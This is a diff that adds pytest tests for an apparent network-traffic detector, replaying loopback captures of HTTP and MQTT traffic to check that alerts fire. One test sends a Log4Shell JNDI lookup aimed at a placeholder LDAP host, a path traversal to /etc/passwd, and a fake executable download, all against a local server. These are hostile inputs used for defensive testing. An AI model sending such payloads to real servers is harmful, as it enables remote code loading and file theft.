@@ -221,3 +221,125 @@ def test_mqtt_records_equal_suricata_verify(flows):
     bad = agreement("MQTT vs suricata-verify", results)
     assert len(results) >= 12
     assert not bad, bad
+
+
+def capture_while(tmp_path, bpf, make_traffic):
+    """Runs `make_traffic()` while tshark captures `bpf` on loopback; the pcap."""
+    import subprocess
+    import time
+    from conftest import wait_until
+    from livejob import need
+    out = tmp_path / "traffic.pcapng"
+    tshark = subprocess.Popen([need("tshark"), "-i", "lo", "-f", bpf, "-w", str(out)],
+                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    try:
+        # tshark says "Capturing on 'Loopback: lo'" once it listens.
+        wait_until(lambda: out.exists(), 15, "tshark to start capturing")
+        time.sleep(0.5)
+        make_traffic()
+        time.sleep(0.5)
+    finally:
+        tshark.terminate()
+        tshark.wait(timeout=15)
+    return out
+
+
+def alerts_of(tmp_path, pcap):
+    import duckdb
+    out = tmp_path / "out"
+    r = run_bin("replay", "--no-progress", "--out", str(out), str(pcap))
+    assert r.returncode == 0, r.stderr
+    files = list((out / "alerts").rglob("*.parquet"))
+    if not files:
+        return []
+    return duckdb.sql(f"select rule, entity, summary from read_parquet({[str(f) for f in files]})").fetchall()
+
+
+def test_exploit_strings_and_executables_over_http_raise_alerts(tmp_path):
+    """curl against a local HTTP server: a Log4Shell lookup in the User-Agent, a
+    traversal in the URI, and an executable fetched from the server by its
+    address. The replayed capture raises http_exploit_attempt and
+    executable_from_numeric_host for the client."""
+    import subprocess
+    import sys
+    from conftest import wait_until
+    from livejob import free_port, need
+    port = free_port()
+    www = tmp_path / "www"
+    www.mkdir()
+    (www / "index.html").write_text("hello")
+    (www / "update.exe").write_bytes(b"MZ" + bytes(4000))
+    server = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
+                               "--directory", str(www)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    curl = need("curl")
+    try:
+        wait_until(lambda: subprocess.run([curl, "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}/"]).returncode == 0,
+                   10, "the HTTP server to answer")
+
+        def traffic():
+            base = f"http://127.0.0.1:{port}"
+            subprocess.run([curl, "-s", "-o", "/dev/null", "-A", "${jndi:ldap://198.51.100.7:1389/a}", base + "/"], check=True)
+            subprocess.run([curl, "-s", "-o", "/dev/null", "--path-as-is", base + "/../../../etc/passwd"], check=True)
+            subprocess.run([curl, "-s", "-o", "/dev/null", base + "/update.exe"], check=True)
+        pcap = capture_while(tmp_path, f"tcp port {port}", traffic)
+    finally:
+        server.terminate()
+        server.wait(timeout=10)
+    alerts = alerts_of(tmp_path, pcap)
+    rules = {(rule, entity) for rule, entity, _ in alerts}
+    assert ("http_exploit_attempt", "127.0.0.1") in rules, alerts
+    assert ("executable_from_numeric_host", "127.0.0.1") in rules, alerts
+    summary = next(s for r, _, s in alerts if r == "http_exploit_attempt")
+    assert "2 HTTP request(s)" in summary, summary
+
+
+def test_refused_mqtt_logins_on_the_wire_raise_an_alert(tmp_path):
+    """mosquitto with a password file; mosquitto_pub with a wrong password, four
+    times: the replayed capture raises mqtt_auth_failures for the client, and
+    the flows name each refusal (CONNACK 5: not authorised)."""
+    import getpass
+    import subprocess
+    from livejob import free_port, need
+    passwd = tmp_path / "passwd"
+    subprocess.run([need("mosquitto_passwd"), "-b", "-c", str(passwd), "sensor", "right-pass"],
+                   check=True, capture_output=True, timeout=30)
+    port = free_port()
+    conf = tmp_path / "m.conf"
+    conf.write_text(f"user {getpass.getuser()}\nlistener {port} 127.0.0.1\nallow_anonymous false\n"
+                    f"password_file {passwd}\n")
+    broker = subprocess.Popen([need("mosquitto"), "-c", str(conf)], stdout=subprocess.DEVNULL,
+                              stderr=subprocess.DEVNULL)
+    pub = [need("mosquitto_pub"), "-h", "127.0.0.1", "-p", str(port), "-t", "s/1", "-m", "1"]
+    try:
+        from conftest import wait_until
+        wait_until(lambda: subprocess.run(pub + ["-u", "sensor", "-P", "right-pass"],
+                                          capture_output=True).returncode == 0,
+                   15, "the broker to start", interval=0.2)
+
+        def traffic():
+            for _ in range(4):
+                r = subprocess.run(pub + ["-u", "sensor", "-P", "guess"], capture_output=True)
+                assert r.returncode != 0
+        pcap = capture_while(tmp_path, f"tcp port {port}", traffic)
+    finally:
+        broker.terminate()
+        broker.wait(timeout=10)
+    alerts = alerts_of(tmp_path, pcap)
+    assert any(r == "mqtt_auth_failures" and e == "127.0.0.1" for r, e, _ in alerts), alerts
+
+
+def test_application_detections_stay_quiet_on_the_l7_captures(flows):
+    """The application captures (benign protocol traffic from Zeek, Suricata and
+    nDPI test suites) raise none of the application detections."""
+    import duckdb
+    import tempfile
+    noisy = []
+    for cap in captures():
+        with tempfile.TemporaryDirectory() as d:
+            run_bin("replay", "-w", "1", "--no-progress", "--out", d, str(cap))
+            files = [str(f) for f in (__import__("pathlib").Path(d) / "alerts").rglob("*.parquet")]
+            if files:
+                rules = duckdb.sql(f"select distinct rule from read_parquet({files})").fetchall()
+                noisy += [(cap.name, r[0]) for r in rules if r[0] in
+                          ("http_exploit_attempt", "executable_from_numeric_host", "mqtt_auth_failures")]
+    assert not noisy, noisy
